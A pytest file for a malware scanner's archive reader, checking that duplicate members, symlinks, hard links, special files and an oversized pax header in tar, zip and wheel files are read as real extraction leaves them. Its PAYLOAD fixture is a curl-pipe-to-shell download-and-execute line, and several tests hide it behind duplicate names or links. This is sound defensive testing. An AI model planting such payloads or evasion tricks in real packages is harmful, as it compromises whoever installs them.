"""The archive reader against real extraction: what `tarfile`/`zipfile` leave on disk is
what Warden scans (issue 18 item 4). Every archive is built by hand here; nothing is run."""

from __future__ import annotations

import bz2
import io
import os
import posixpath
import tarfile
import time
import tracemalloc
import warnings
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detector.code.archive import is_text_member
from detector.code.extract import read_package
from detector.code.scan import scan_path

PAYLOAD = 'import os\nos.system("curl http://203.0.113.9/x.sh | sh")\n'
CLEAN = "from setuptools import setup\nsetup(name='tidy')\n"


def _tar(path: Path, members: list[tuple]) -> Path:
    """members: (name, kind, data-or-linkname); kind file | sym | hard | dir | fifo | chr."""
    kinds = {"file": tarfile.REGTYPE, "sym": tarfile.SYMTYPE, "hard": tarfile.LNKTYPE,
             "dir": tarfile.DIRTYPE, "fifo": tarfile.FIFOTYPE, "chr": tarfile.CHRTYPE}
    with tarfile.open(path, "w:gz") as tar:
        for name, kind, value in members:
            info = tarfile.TarInfo(name)
            info.type = kinds[kind]
            info.mode = 0o755 if kind == "dir" else 0o644
            if kind == "file":
                data = value.encode()
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                info.linkname = value or ""
                tar.addfile(info)
    return path


def _zip(path: Path, members: list[tuple[str, str]]) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point
        with zipfile.ZipFile(path, "w") as archive:
            for name, text in members:
                archive.writestr(name, text)
    return path


def _extracted(path: Path, dest: Path) -> dict[str, str]:
    """Text files as real extraction leaves them (links followed by the file system)."""
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            archive.extractall(dest)
    else:
        with tarfile.open(path) as tar:
            tar.extractall(dest, filter="tar")
    out = {}
    for here, _, names in os.walk(dest, followlinks=True):
        for name in names:
            full = Path(here) / name
            rel = full.relative_to(dest).as_posix()
            if is_text_member(rel) and full.exists():
                out[rel] = full.read_text()
    return out


def _rooted(files: dict[str, str], top: str) -> dict[str, str]:
    return {f"{top}/{k}": v for k, v in files.items()}


def _rules(result) -> set[str]:
    return {f.rule for f in result.findings}


def test_duplicate_setup_py_in_tar_last_wins_like_extraction(tmp_path):
    path = _tar(tmp_path / "dup-1.0.tar.gz", [
        ("dup-1.0/setup.py", "file", CLEAN), ("dup-1.0/setup.py", "file", PAYLOAD)])
    package = read_package(path)
    assert _rooted(package.files, "dup-1.0") == _extracted(path, tmp_path / "x")
    assert package.files["setup.py"] == PAYLOAD
    result = scan_path(path)
    assert result.flagged and {"archive-duplicate-code", "shell-download-exec"} <= _rules(result)


@pytest.mark.parametrize("suffix", [".zip", ".whl"])
def test_duplicate_member_in_zip_and_wheel_last_wins_like_extraction(tmp_path, suffix):
    path = _zip(tmp_path / f"dup-1.0-py3-none-any{suffix}", [
        ("dup/__init__.py", "x = 1\n"), ("dup/__init__.py", PAYLOAD)])
    package = read_package(path)
    assert package.files == _extracted(path, tmp_path / "x")
    assert package.files["dup/__init__.py"] == PAYLOAD
    result = scan_path(path)
    assert result.flagged and "archive-duplicate-code" in _rules(result)


def test_duplicate_non_code_member_is_noted_not_flagged(tmp_path):
    path = _tar(tmp_path / "d-1.0.tar.gz", [
        ("d-1.0/setup.py", "file", CLEAN), ("d-1.0/README.md", "file", "a"),
        ("d-1.0/README.md", "file", "b")])
    result = scan_path(path)
    assert "archive-duplicate-name" in _rules(result) and not result.flagged


def test_hard_link_scans_its_target_under_the_link_name(tmp_path):
    path = _tar(tmp_path / "h-1.0.tar.gz", [
        ("h-1.0/notes.txt", "file", PAYLOAD), ("h-1.0/setup.py", "hard", "h-1.0/notes.txt")])
    package = read_package(path)
    assert _rooted(package.files, "h-1.0") == _extracted(path, tmp_path / "x")
    result = scan_path(path)
    assert "shell-download-exec" in _rules(result) and "archive-link" in _rules(result)
    assert any(f.file == "setup.py" and f.tier == "install" for f in result.findings
               if f.rule == "shell-download-exec")


def test_symlink_to_a_member_resolves_like_extraction(tmp_path):
    path = _tar(tmp_path / "s-1.0.tar.gz", [
        ("s-1.0/data/real.txt", "file", PAYLOAD), ("s-1.0/setup.py", "sym", "data/real.txt")])
    package = read_package(path)
    assert _rooted(package.files, "s-1.0") == _extracted(path, tmp_path / "x")
    assert "shell-download-exec" in _rules(scan_path(path))


def test_symlinked_folder_lends_its_files(tmp_path):
    path = _tar(tmp_path / "f-1.0.tar.gz", [
        ("f-1.0/setup.py", "file", CLEAN), ("f-1.0/src/f/__init__.py", "file", PAYLOAD),
        ("f-1.0/f", "sym", "src/f")])
    package = read_package(path)
    assert _rooted(package.files, "f-1.0") == _extracted(path, tmp_path / "x")
    assert package.files["f/__init__.py"] == PAYLOAD


def test_licence_symlink_is_a_finding_that_does_not_flag(tmp_path):
    path = _tar(tmp_path / "l-1.0.tar.gz", [
        ("l-1.0/setup.py", "file", CLEAN), ("l-1.0/docs/LICENSE.txt", "file", "MIT"),
        ("l-1.0/LICENSE", "sym", "docs/LICENSE.txt")])
    result = scan_path(path)
    assert "archive-link" in _rules(result) and not result.flagged
    assert any("LICENSE -> docs/LICENSE.txt" in f.evidence for f in result.findings)


@pytest.mark.parametrize("target", ["/etc/passwd", "../../outside.py", "../../../x"])
def test_link_outside_the_package_flags_it_unread(tmp_path, target):
    path = _tar(tmp_path / "o-1.0.tar.gz", [
        ("o-1.0/setup.py", "file", CLEAN), ("o-1.0/pkg/mod.py", "sym", target)])
    result = scan_path(path)
    assert result.flagged and "archive-link-outside" in _rules(result)


@pytest.mark.parametrize("kind", ["fifo", "chr"])
def test_device_or_fifo_flags_the_package(tmp_path, kind):
    path = _tar(tmp_path / "v-1.0.tar.gz", [
        ("v-1.0/setup.py", "file", CLEAN), ("v-1.0/thing", kind, None)])
    result = scan_path(path)
    assert result.flagged and "archive-special-file" in _rules(result)


def test_zip_symlink_member_is_resolved_inside(tmp_path):
    path = tmp_path / "z-1.0.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("z/real.txt", PAYLOAD)
        info = zipfile.ZipInfo("z/__init__.py")
        info.external_attr = (0o120777) << 16
        archive.writestr(info, "real.txt")
    package = read_package(path)
    assert package.files["z/__init__.py"] == PAYLOAD
    assert "archive-link" in {f.rule for f in package.findings}


def test_huge_pax_header_is_refused_before_it_is_read(tmp_path):
    """A few hundred bytes of .tar.bz2 that declare a 1 GB pax header."""
    header = tarfile.TarInfo("././@PaxHeader")
    header.type = tarfile.XHDTYPE
    header.size = 1_000_000_000
    block = header.tobuf(format=tarfile.USTAR_FORMAT)
    raw = bz2.compress(block + b"\0" * 20_000_000)
    path = tmp_path / "pax-1.0.tar.bz2"
    path.write_bytes(raw)
    assert len(raw) < 2000
    tracemalloc.start()
    start = time.process_time()
    result = scan_path(path)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert time.process_time() - start < 2.0 and peak < 64 << 20
    assert "archive-limit-exceeded" in _rules(result) or result.error


def test_bytes_source_reads_like_a_path(tmp_path):
    path = _tar(tmp_path / "b-1.0.tar.gz", [("b-1.0/setup.py", "file", CLEAN)])
    assert read_package(path.read_bytes(), filename=path.name).files == read_package(path).files


NAMES = ["setup.py", "a.py", "pkg/__init__.py", "pkg/m.py", "b.txt"]
member = st.one_of(
    st.tuples(st.sampled_from(NAMES), st.just("file"), st.sampled_from(["x = 1\n", "y = 2\n"])),
    st.tuples(st.sampled_from(NAMES), st.sampled_from(["sym", "hard"]),
              st.sampled_from([*NAMES, "../pkg/m.py"])))


@pytest.mark.xfail(strict=False, reason=(
    "open (issue 18 item 4): a hard link shares its target's inode in real extraction, so a "
    "later member rewriting the target changes the link's content too; read_package keeps "
    "the content at link time. Hypothesis finds it in about half of the seeds."))
@settings(max_examples=60, deadline=None)
@given(members=st.lists(member, min_size=1, max_size=8))
def test_generated_archives_read_as_extraction_leaves_them(members, tmp_path_factory):
    """Random duplicates and links (inside and pointing nowhere): whatever tarfile's own
    extraction writes, read_package reads, name for name and byte for byte, and nothing
    else but links that extraction leaves unresolvable."""
    tmp = tmp_path_factory.mktemp("gen")
    built = []
    for name, kind, value in members:
        if kind == "file":
            built.append((f"g-1/{name}", "file", value))
        elif kind == "sym":
            base = posixpath.dirname(name)
            built.append((f"g-1/{name}", "sym", posixpath.relpath(value, base or ".")))
        else:
            built.append((f"g-1/{name}", "hard", f"g-1/{value}"))
    path = _tar(tmp / "g-1.tar.gz", built)
    try:
        expected = _extracted(path, tmp / "x")
    except (tarfile.TarError, OSError, KeyError):
        return  # extraction itself refuses this archive: nothing to compare
    read = _rooted(read_package(path).files, "g-1")
    # What extraction leaves is read name for name and byte for byte.
    assert {k: read.get(k) for k in expected} == expected
    # The scanner may read more only where extraction left a link that resolves nowhere
    # (a link cycle: a hard link to a symlink that points back): reading more is safe.
    for extra in read.keys() - expected.keys():
        left = tmp / "x" / extra
        assert os.path.lexists(left) and not left.exists(), extra
